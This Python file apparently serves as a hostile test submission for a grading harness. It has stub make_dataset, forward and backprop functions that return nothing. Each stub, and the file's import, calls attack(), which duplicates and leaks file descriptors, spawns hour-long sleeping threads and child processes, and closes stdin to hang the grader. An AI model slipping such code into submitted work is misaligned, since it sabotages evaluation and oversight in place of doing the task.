"""Hands the pipes to something that never lets go: a thread, a child if it can have one, and copies of each
descriptor.
"""
import os
import threading
import time

def attack():
    for fd in range(1, 256):
        try:
            os.dup(fd)
            os.set_inheritable(fd, True)
        except OSError:
            continue
    threading.Thread(target=time.sleep, args=(3600,)).start()
    try:
        if os.fork() == 0:
            time.sleep(3600)
    except OSError:
        pass
    os.close(0)


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
